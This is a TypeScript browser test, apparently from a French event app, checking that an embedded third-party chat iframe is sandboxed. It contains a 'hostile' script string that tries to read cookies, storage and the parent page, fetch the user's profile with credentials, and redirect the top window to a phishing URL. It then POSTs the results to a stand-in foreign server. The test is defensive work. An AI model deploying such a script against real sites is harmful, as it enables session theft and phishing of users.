import { once } from "node:events";
import { createServer, type Server } from "node:https";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import { freePort } from "../../support/browser/app";
import { closeVisits, sharedBrowser } from "../../support/browser/browser";
import { type Fair, openFair, people } from "../../support/browser/walk";
import { certificate } from "../../support/world/certificate";
import { buildEvent } from "../../support/world/event";

/**
 * What a hostile chat would do: it tries everything that it could reach on a page of ours, and tells its own server. `FOREIGN`
 * stands for that server, `OURS` for the address of Parvis.
 */
const hostile = `(async () => {
	const tried = {};
	const attempt = async (name, what) => {
		try { tried[name] = String(await what()); } catch (error) { tried[name] = "refused"; }
	};
	await attempt("cookie", () => document.cookie);
	await attempt("storage", () => { localStorage.setItem("chat", "kept"); return localStorage.getItem("ours") + localStorage.getItem("chat"); });
	await attempt("parent", () => parent.document.title);
	await attempt("top", () => top.location.href);
	await attempt("profile", async () => (await fetch("OURS/chat/profil", { credentials: "include" })).text());
	await attempt("relative", async () => (await fetch("/chat/profil", { credentials: "include" })).text());
	await attempt("leave", () => { top.location = "FOREIGN/phishing"; return "tried"; });
	await fetch("FOREIGN/told", { method: "POST", body: JSON.stringify(tried) });
})();`;

let foreign: Server;
let foreignUrl: string;
let told: (tried: Record<string, string>) => void = () => {};
const fairs: Fair[] = [];

beforeAll(async () => {
	foreign = createServer(certificate, async (req, res) => {
		res.setHeader("Access-Control-Allow-Origin", "*");
		if (req.url !== "/told") {
			const ours = new URL(req.url ?? "/", foreignUrl).searchParams.get("ours") ?? "";
			return void res
				.setHeader("Content-Type", "text/javascript")
				.end(hostile.replaceAll("FOREIGN", foreignUrl).replaceAll("OURS", ours));
		}
		const chunks: Buffer[] = [];
		for await (const chunk of req) chunks.push(chunk as Buffer);
		res.end();
		told(JSON.parse(Buffer.concat(chunks).toString()));
	}).listen(0, "127.0.0.1");
	await once(foreign, "listening");
	foreignUrl = `https://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
});
afterAll(async () => {
	await closeVisits(await sharedBrowser());
	await Promise.all(fairs.map((fair) => fair.close()));
	foreign.close();
});

async function openWithChat(env: (port: number) => Record<string, string>) {
	const port = await freePort();
	const ours = `http://localhost:${port}`;
	const settings = { FO_MEETING_CHAT_SCRIPT_URL: `${foreignUrl}/x.js?ours=${encodeURIComponent(ours)}` };
	const event = buildEvent({ event: { id: "chat", alias: "chat" }, settings, people: people("guest") });
	const hosts = new URL(foreignUrl).host;
	const fair = await openFair([event], { PORT: String(port), CHAT_HOSTS: hosts, ...env(port) });
	fairs.push(fair);
	return { fair, ours };
}

test.each([
	{ where: "on our host name", env: () => ({}), storage: "refused" },
	{
		where: "on a host name of its own",
		env: (port: number) => ({ CHAT_ORIGIN: `http://chat.localhost:${port}` }),
		storage: "nullkept",
	},
])("A hostile chat $where reads no cookie, no storage, no page and no session of ours", async ({ env, storage }) => {
	const { fair, ours } = await openWithChat(env);
	const context = await (await sharedBrowser()).newContext({
		ignoreHTTPSErrors: true,
		viewport: { width: 390, height: 844 },
		locale: "fr-FR",
	});
	const page = await context.newPage();
	await page.goto(`${ours}/chat?token=${await fair.mint("guest")}`);
	await page.evaluate(() => {
		localStorage.setItem("ours", "secret");
		// biome-ignore lint/suspicious/noDocumentCookie: a cookie that a script of our origin could read
		document.cookie = "readable=secret";
	});
	await page.goto(`${ours}/chat/assistance`);
	const tried = new Promise<Record<string, string>>((resolve) => {
		told = resolve;
	});
	await page.getByRole("button", { name: "Ouvrir le tchat" }).click();
	expect(await tried).toEqual({
		cookie: storage === "refused" ? "refused" : "",
		storage,
		parent: "refused",
		top: "refused",
		profile: "refused",
		relative: "refused",
		leave: "refused",
	});
	const frame = await page.locator("iframe").boundingBox();
	expect(frame && frame.width >= 320 && frame.height >= 400).toBe(true);

	// The address of the frame, opened as a page of its own, is as harmless.
	const alone = new Promise<Record<string, string>>((resolve) => {
		told = resolve;
	});
	await (await context.newPage()).goto(`${ours}/chat/assistance/cadre?langue=fr`);
	expect(await alone).toMatchObject({ cookie: "refused", storage: "refused", profile: "refused", relative: "refused" });
	await context.close();
});
